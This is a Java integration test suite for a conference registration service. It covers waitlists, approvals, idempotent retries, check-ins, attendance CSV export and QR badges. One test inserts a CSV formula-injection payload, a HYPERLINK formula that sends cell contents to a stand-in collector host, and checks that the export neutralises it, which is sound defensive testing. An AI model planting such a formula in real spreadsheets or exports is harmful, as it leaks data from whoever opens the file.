package io.hoithao.registrations;

import static org.assertj.core.api.Assertions.assertThat;

import com.google.zxing.BinaryBitmap;
import com.google.zxing.client.j2se.BufferedImageLuminanceSource;
import com.google.zxing.common.HybridBinarizer;
import com.google.zxing.qrcode.QRCodeReader;
import io.hoithao.contracts.Topics;
import io.hoithao.contracts.events.EventPublished;
import io.hoithao.contracts.events.RegistrationOpened;
import io.hoithao.contracts.registrations.DelegateCheckedIn;
import io.hoithao.contracts.registrations.RegistrationCancelled;
import io.hoithao.contracts.registrations.RegistrationConfirmed;
import io.hoithao.contracts.registrations.RegistrationPendingApproval;
import io.hoithao.contracts.registrations.RegistrationPromoted;
import io.hoithao.contracts.registrations.RegistrationRejected;
import io.hoithao.platform.testing.IntegrationTest;
import io.hoithao.platform.testing.Scenario;
import io.hoithao.platform.testing.TestIdentity;
import io.hoithao.platform.testing.TestMessages;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.HttpHeaders;
import org.springframework.http.MediaType;
import org.springframework.test.web.reactive.server.WebTestClient;
import reactor.core.publisher.Flux;

@IntegrationTest
class RegistrationLifecycleIT {

    private static final org.springframework.core.ParameterizedTypeReference<Map<String, Object>> MAP =
            new org.springframework.core.ParameterizedTypeReference<>() {
            };

    @Autowired
    WebTestClient http;

    @Autowired
    io.hoithao.platform.units.KnownUnits units;

    @Autowired
    org.springframework.boot.web.server.context.WebServerApplicationContext context;

    @RegisterExtension
    final TestMessages messages = new TestMessages();
    final TestMessages.Subscription topic = messages.subscribe(Topics.REGISTRATIONS);

    Fixtures fixtures() {
        return new Fixtures(http, messages);
    }

    @Test
    void aCancellationPromotesTheFirstOnTheWaitingList() {
        Fixtures f = fixtures();
        String eventId = f.openEvent(2);
        Map<String, Object> first = f.registered(Fixtures.delegate(eventId, "a@mn.edu.vn"));
        f.registered(Fixtures.delegate(eventId, "b@mn.edu.vn"));
        Map<String, Object> third = f.registered(Fixtures.delegate(eventId, "c@mn.edu.vn"));
        Map<String, Object> fourth = f.registered(Fixtures.delegate(eventId, "d@mn.edu.vn"));
        assertThat(third.get("status")).isEqualTo("WAITLISTED");
        assertThat(fourth.get("status")).isEqualTo("WAITLISTED");

        String code = ((String) first.get("confirmationCode")).toLowerCase().replace("-", " ");
        for (int attempt = 0; attempt < 2; attempt++) { // cancelling twice is the same as once
            http.post().uri("/api/registrations/codes/{code}/cancel", code).contentType(MediaType.APPLICATION_JSON)
                    .bodyValue(Map.of("reason", "Bận công tác đột xuất")).exchange()
                    .expectStatus().isOk().expectBody().jsonPath("$.status").isEqualTo("CANCELLED");
        }

        Map<String, Object> promoted = f.registration((String) third.get("id"));
        assertThat(promoted.get("status")).isEqualTo("CONFIRMED");
        assertThat(promoted.get("confirmationCode")).isNotNull();
        assertThat(f.registration((String) fourth.get("id")).get("status")).isEqualTo("WAITLISTED");
        f.awaitEvent(eventId, seats -> seats.jsonPath("$.confirmed").isEqualTo(2).jsonPath("$.waitlisted").isEqualTo(1));
        Scenario.eventually(() -> {
            assertThat(Fixtures.about(topic.messages(RegistrationCancelled.class), eventId))
                    .singleElement().satisfies(m -> {
                        assertThat(m.registrationId()).isEqualTo(first.get("id"));
                        assertThat(m.wasConfirmed()).isTrue();
                    });
            assertThat(Fixtures.about(topic.messages(RegistrationPromoted.class), eventId))
                    .singleElement().satisfies(m -> assertThat(m.registrationId()).isEqualTo(third.get("id")));
        });
    }

    @Test
    void inApprovalModeRegistrationsWaitForTheOrganiser() {
        Fixtures f = fixtures();
        String eventId = f.openEvent(1);
        http.put().uri("/api/registrations/events/{id}/approval", eventId).contentType(MediaType.APPLICATION_JSON)
                .bodyValue(Map.of("required", true)).exchange()
                .expectStatus().isOk().expectBody().jsonPath("$.approvalRequired").isEqualTo(true);

        Map<String, Object> x = f.registered(Fixtures.delegate(eventId, "x@mn.edu.vn"));
        Map<String, Object> y = f.registered(Fixtures.delegate(eventId, "y@mn.edu.vn"));
        Map<String, Object> z = f.registered(Fixtures.delegate(eventId, "z@mn.edu.vn"));
        assertThat(List.of(x.get("status"), y.get("status"), z.get("status"))).containsOnly("AWAITING_APPROVAL");
        f.awaitEvent(eventId, seats -> seats.jsonPath("$.confirmed").isEqualTo(0));

        http.post().uri("/api/registrations/{id}/approve", x.get("id")).exchange()
                .expectStatus().isOk().expectBody().jsonPath("$.status").isEqualTo("CONFIRMED")
                .jsonPath("$.confirmationCode").isNotEmpty();
        http.post().uri("/api/registrations/{id}/approve", y.get("id")).exchange()
                .expectStatus().isOk().expectBody().jsonPath("$.status").isEqualTo("WAITLISTED");
        http.post().uri("/api/registrations/{id}/reject", y.get("id")).exchange()
                .expectStatus().isEqualTo(409).expectBody()
                .jsonPath("$.type").isEqualTo("https://hoithao.io/problems/invalid-transition");
        http.post().uri("/api/registrations/{id}/reject", z.get("id")).contentType(MediaType.APPLICATION_JSON)
                .bodyValue(Map.of("reason", "Đơn vị đã đủ số lượng")).exchange()
                .expectStatus().isOk().expectBody().jsonPath("$.status").isEqualTo("REJECTED");
        http.post().uri("/api/registrations/{id}/approve", z.get("id")).exchange().expectStatus().isEqualTo(409);
        f.awaitEvent(eventId, seats -> seats.jsonPath("$.confirmed").isEqualTo(1));

        Scenario.eventually(() -> {
            assertThat(Fixtures.about(topic.messages(RegistrationPendingApproval.class), eventId)).hasSize(3);
            assertThat(Fixtures.about(topic.messages(RegistrationConfirmed.class), eventId))
                    .singleElement().satisfies(m -> assertThat(m.registrationId()).isEqualTo(x.get("id")));
            assertThat(Fixtures.about(topic.messages(RegistrationRejected.class), eventId))
                    .singleElement().satisfies(m -> assertThat(m.reason()).isEqualTo("Đơn vị đã đủ số lượng"));
        });
    }

    @Test
    void aRetriedPostWithTheSameIdempotencyKeyRegistersOnce() {
        Fixtures f = fixtures();
        String eventId = f.openEvent(5);
        String key = UUID.randomUUID().toString();
        WebTestClient client = WebTestClient.bindToServer()
                .baseUrl("http://localhost:" + context.getWebServer().getPort())
                .defaultHeader(HttpHeaders.AUTHORIZATION, TestIdentity.get().bearer(TestIdentity.admin())).build();

        List<String> ids = Flux.range(0, 8)
                .flatMap(i -> client.post().uri("/api/registrations").header("Idempotency-Key", key)
                        .contentType(MediaType.APPLICATION_JSON).bodyValue(Fixtures.delegate(eventId, "retry@mn.edu.vn"))
                        .exchange().returnResult(Map.class).getResponseBody().map(body -> (String) body.get("id")), 8)
                .collectList().block(Duration.ofSeconds(30));
        assertThat(ids).hasSize(8).doesNotContainNull().containsOnly(ids.get(0));

        http.post().uri("/api/registrations").header("Idempotency-Key", key).contentType(MediaType.APPLICATION_JSON)
                .bodyValue(Fixtures.delegate(eventId, "retry@mn.edu.vn")).exchange()
                .expectStatus().isCreated()
                .expectHeader().valueEquals("Idempotent-Replayed", "true")
                .expectBody().jsonPath("$.id").isEqualTo(ids.get(0)).jsonPath("$.status").isEqualTo("CONFIRMED");
        http.post().uri("/api/registrations").header("Idempotency-Key", key).contentType(MediaType.APPLICATION_JSON)
                .bodyValue(Fixtures.delegate(eventId, "other@mn.edu.vn")).exchange()
                .expectStatus().isEqualTo(422)
                .expectBody().jsonPath("$.type").isEqualTo("https://hoithao.io/problems/idempotency-key-reused");

        f.awaitEvent(eventId, seats -> seats.jsonPath("$.confirmed").isEqualTo(1));
        http.get().uri("/api/registrations/events/{id}/registrations", eventId).exchange()
                .expectBody().jsonPath("$.total").isEqualTo(1);
        Scenario.eventually(() ->
                assertThat(Fixtures.about(topic.messages(RegistrationConfirmed.class), eventId)).hasSize(1));
    }

    @Test
    void checkingInTwiceCountsOnceAndAttendanceIsCountedPerUnitAndDay() throws Exception {
        Fixtures f = fixtures();
        String eventId = "evt-" + UUID.randomUUID();
        LocalDate day1 = LocalDate.of(2025, 10, 25);
        LocalDate day2 = day1.plusDays(1);
        f.send(new EventPublished(UUID.randomUUID(), Instant.now(), eventId, "Hội nghị sơ kết chuyên đề", "CONFERENCE",
                "PROVINCE", "Sở GD&ĐT Bắc Kạn", day1, day2, "Asia/Ho_Chi_Minh", 3, TestDirectory.id("Sở GD&ĐT Bắc Kạn")));
        f.send(new RegistrationOpened(UUID.randomUUID(), Instant.now(), eventId, "Hội nghị sơ kết chuyên đề", 3, null));
        f.awaitEvent(eventId, seats -> seats.jsonPath("$.registrationOpen").isEqualTo(true)
                .jsonPath("$.days.length()").isEqualTo(2));

        String code = (String) f.registered(Fixtures.delegate(eventId, "gv1@mn.edu.vn")).get("confirmationCode");
        String code2 = (String) f.registered(Fixtures.delegate(eventId, "gv2@mn.edu.vn")).get("confirmationCode");
        f.registered(Fixtures.delegate(eventId, "hieutruong@pgd.edu.vn", "Phòng GD&ĐT Chợ Mới"));
        Map<String, Object> waiting = f.registered(Fixtures.delegate(eventId, "gv4@mn.edu.vn"));
        assertThat(waiting.get("status")).isEqualTo("WAITLISTED");

        Instant before = Instant.now();
        Map<String, Object> first = checkIn(code, day1).expectStatus().isOk().expectBody(MAP).returnResult().getResponseBody();
        assertThat(first).containsEntry("alreadyCheckedIn", false).containsEntry("fullName", "Nguyễn Thị Hồng Nhung");
        Instant firstAt = Instant.parse((String) first.get("checkedInAt"));
        assertThat(firstAt).isBetween(before.minusSeconds(1), Instant.now());
        // scanned again: the answer says when the first scan was, not now
        checkIn(code, day1).expectStatus().isOk().expectBody().jsonPath("$.alreadyCheckedIn").isEqualTo(true)
                .jsonPath("$.checkedInAt").isEqualTo(first.get("checkedInAt"))
                .jsonPath("$.checkIns.length()").isEqualTo(1);
        checkIn(code, day2).expectStatus().isOk().expectBody().jsonPath("$.alreadyCheckedIn").isEqualTo(false)
                .jsonPath("$.checkedInAt").value(at -> assertThat(Instant.parse((String) at)).isAfterOrEqualTo(firstAt));
        checkIn(code, day2.plusDays(1)).expectStatus().isBadRequest()
                .expectBody().jsonPath("$.errors[0].field").isEqualTo("day");
        checkIn("ZZZZ-ZZZZ", day1).expectStatus().isNotFound();

        http.get().uri("/api/registrations/events/{id}/attendance", eventId).exchange().expectStatus().isOk()
                .expectBody()
                .jsonPath("$.days[0].day").isEqualTo("2025-10-25")
                .jsonPath("$.days[0].attended").isEqualTo(1)
                .jsonPath("$.days[0].summary").isEqualTo("1 of 3 delegates attended")
                .jsonPath("$.days[0].categories.TEACHER.summary").isEqualTo("1 of 3 teachers attended")
                .jsonPath("$.days[0].units[?(@.unit == 'Trường Mầm non Đồng Tâm')].summary").isEqualTo("1 of 2 delegates attended")
                .jsonPath("$.days[0].units[?(@.unit == 'Phòng GD&ĐT Chợ Mới')].summary").isEqualTo("0 of 1 delegates attended")
                .jsonPath("$.days[1].attended").isEqualTo(1);
        byte[] csv = http.get().uri("/api/registrations/events/{id}/attendance.csv", eventId).exchange()
                .expectStatus().isOk()
                .expectHeader().contentTypeCompatibleWith("text/csv")
                .expectBody().returnResult().getResponseBody();
        assertThat(new String(csv, StandardCharsets.UTF_8))
                .startsWith("\uFEFFday,unit,confirmed,attended,summary")
                .contains("2025-10-25,Trường Mầm non Đồng Tâm,2,1,1 of 2 delegates attended")
                .contains("2025-10-26,(all units),3,1,1 of 3 delegates attended");

        http.post().uri("/api/registrations/codes/{code}/cancel", code2).exchange().expectStatus().isOk();
        checkIn(code2, day1).expectStatus().isEqualTo(409)
                .expectBody().jsonPath("$.type").isEqualTo("https://hoithao.io/problems/not-confirmed");
        Scenario.eventually(() ->
                assertThat(Fixtures.about(topic.messages(DelegateCheckedIn.class), eventId))
                        .extracting(DelegateCheckedIn::day).containsExactlyInAnyOrder(day1, day2));
    }

    @Test
    void aFormulaTypedAsAUnitComesOutOfTheAttendanceCsvAsText() {
        Fixtures f = fixtures();
        String eventId = f.openEvent(2);
        String formula = "=HYPERLINK(\"http://thu-thap.example/?d=\"&A1,\"Bấm vào đây\")";
        TestDirectory.add(units, formula); // a unit of the directory so named (the events service's rules aside)
        String code = (String) f.registered(Fixtures.delegate(eventId, "congthuc@mn.edu.vn", formula)).get("confirmationCode");
        checkIn(code, LocalDate.of(2025, 10, 25)).expectStatus().isOk(); // a day, so the attendance has a row

        byte[] csv = http.get().uri("/api/registrations/events/{id}/attendance.csv", eventId).exchange()
                .expectStatus().isOk().expectBody().returnResult().getResponseBody();

        assertThat(new String(csv, StandardCharsets.UTF_8).lines())
                .anySatisfy(line -> assertThat(line).contains(",\"'=HYPERLINK(\"\"http://thu-thap.example/"))
                .noneSatisfy(line -> assertThat(line).contains(",\"=HYPERLINK").as("a cell starting with ="));
    }

    @Test
    void theBadgeQrCodeHoldsTheConfirmationCode() throws Exception {
        Fixtures f = fixtures();
        String eventId = f.openEvent(1);
        String code = (String) f.registered(Fixtures.delegate(eventId, "qr@mn.edu.vn")).get("confirmationCode");

        byte[] png = http.get().uri("/api/registrations/codes/{code}/qr.png", code).exchange()
                .expectStatus().isOk().expectHeader().contentType(MediaType.IMAGE_PNG)
                .expectBody().returnResult().getResponseBody();
        var image = ImageIO.read(new ByteArrayInputStream(png));
        String decoded = new QRCodeReader().decode(new BinaryBitmap(new HybridBinarizer(
                new BufferedImageLuminanceSource(image)))).getText();
        assertThat(decoded).isEqualTo(code);
        http.get().uri("/api/registrations/codes/{code}", code.toLowerCase()).exchange()
                .expectStatus().isOk().expectBody().jsonPath("$.email").isEqualTo("qr@mn.edu.vn");
    }

    WebTestClient.ResponseSpec checkIn(String code, LocalDate day) {
        return http.post().uri("/api/registrations/codes/{code}/check-ins", code).contentType(MediaType.APPLICATION_JSON)
                .bodyValue(Map.of("day", day.toString())).exchange();
    }
}
